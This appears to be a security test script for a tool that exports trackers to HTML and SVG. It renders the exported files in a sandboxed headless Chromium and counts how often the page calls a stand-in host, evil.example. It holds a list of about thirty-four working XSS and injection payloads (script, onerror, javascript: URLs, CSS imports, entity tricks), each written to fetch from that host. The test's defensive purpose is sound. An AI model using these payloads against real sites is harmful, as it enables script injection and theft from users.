# SPDX-License-Identifier: MIT
"""browser.py HOLDOUT [FOLDER]: loads pages and pictures of hostile texts in a headless Chromium, whose only way
out is a proxy of ours, and counts what it asks for beside the file itself: every text that ran or loaded
anything would ask evil.example for it. A page with the same texts unescaped shows that it would be seen.
FOLDER gets pictures of what is drawn, light and dark. Skipped (77) without Chromium."""
import http.server
import os
import shutil
import subprocess
import sys
import tempfile
import threading

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
EVIL = "http://evil.example/"
TEXTS = [form.replace("@", EVIL + str(i)) for i, form in enumerate([
    "<script>fetch('@')</script>", "<script src=@></script>", "<img src=@ onerror=fetch('@')>", "<svg onload=fetch('@')>",
    "<svg><script>fetch('@')</script></svg>", "\"><img src=@>", "'><img src=@>", "</title><img src=@>",
    "</style><img src=@>", "</desc><image href=@ />", "--><img src=@>", "]]><img src=@>", "<iframe src=@></iframe>",
    "<link rel=stylesheet href=@>", "<style>@import '@'</style>", "<style>*{background:url(@)}</style>",
    "<body onload=fetch('@')>", "<meta http-equiv=refresh content='0;url=@'>", "<object data=@></object>",
    "<video src=@></video>", "<a href=javascript:fetch('@')>x</a>", "javascript:fetch('@')",
    "<foreignObject><img src=@></foreignObject>", "<use href=@#a></use>", "<base href=@>", "&lt;img src=@&gt;",
    "&#60;img src=@&#62;", "<img\tsrc=@>", "<img\nsrc=@>", "<?xml-stylesheet href='@'?>",
    "<!ENTITY x SYSTEM '@'>", "<audio autoplay src=@>", "' onmouseover='fetch(\"@\")", "<embed src=@>"])]


class Proxy(http.server.BaseHTTPRequestHandler):
    """Serves the folder under http://page.example/, and keeps what else was asked for."""
    folder, asked = "", []

    def do_GET(self):
        name = os.path.basename(self.path)
        path = os.path.join(self.folder, name)
        if self.path.startswith("http://page.example/") and os.path.exists(path):
            self.send_response(200)
            kind = "image/svg+xml" if name.endswith(".svg") else "text/html; charset=utf-8"
            self.send_header("Content-Type", kind)
            self.end_headers()
            with open(path, "rb") as file:
                self.wfile.write(file.read())
            return
        if "evil.example" in self.path:
            self.asked.append(self.path)
        self.send_error(404)

    do_POST = do_CONNECT = do_GET

    def log_message(self, *_):
        pass


def quoted(text):
    return '"' + "".join(f"\\U{ord(c):08X}" for c in text) + '"'


def tracker(texts):
    lines = ["holdout: 1", f"title: {quoted(''.join(texts))}", f"question: {quoted(texts[0])}", "rule: unanimity",
             "members:"]
    for i, text in enumerate(texts):
        word = quoted(text)
        lines += [f"  m{i}: {{name: {word}, short: {word}, positions: [{{on: 2024-01-01, stance: oppose,",
                  f"    quote: {word}, speaker: {word}, source: {word}, note: {word}}}]}}"]
    lines += ["sources:"] + [f"  s{i}: {{title: {quoted(text)}, url: {quoted(text)}}}"
                             for i, text in enumerate(texts)]
    return "\n".join(lines) + "\n"


def load(folder, port, name, *options):
    subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars",
                    f"--user-data-dir={folder}/profile", f"--proxy-server=http://127.0.0.1:{port}",
                    "--virtual-time-budget=3000", *options, f"http://page.example/{name}"],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120, check=True)


def main():
    if not CHROMIUM:
        print("G13  skipped: there is no Chromium")
        return 77
    with tempfile.TemporaryDirectory() as folder:
        with open(os.path.join(folder, "t.yaml"), "w", encoding="utf-8") as file:
            file.write(tracker(TEXTS))
        for name in ("t.html", "t.svg"):
            subprocess.run([sys.argv[1], "export", f"{folder}/t.yaml", "-o", f"{folder}/{name}", "--today",
                            "2024-06-01"], check=True)
        with open(os.path.join(folder, "control.html"), "w", encoding="utf-8") as file:
            file.write("<!DOCTYPE html><body>" + "".join(TEXTS[:5]))
        Proxy.folder = folder
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        counts = {}
        for name in ("control.html", "t.html", "t.svg"):
            Proxy.asked.clear()
            load(folder, server.server_port, name, "--dump-dom")
            counts[name] = len(set(Proxy.asked))
        for name in ("t.html", "t.svg"):
            for look in ("light", "dark") if len(sys.argv) > 2 else ():
                dark = ["--blink-settings=preferredColorScheme=0"] if look == "dark" else []
                load(folder, server.server_port, name, *dark, "--window-size=840,2000",
                     f"--screenshot={os.path.abspath(sys.argv[2])}/{name}-{look}.png")
        server.shutdown()
    print(f"G13  hostile texts {len(TEXTS)} in Chromium: the page asks {counts['t.html']} times, the picture "
          f"{counts['t.svg']} times, the same texts unescaped {counts['control.html']} times")
    return counts["t.html"] + counts["t.svg"] > 0 or counts["control.html"] == 0


sys.exit(main())
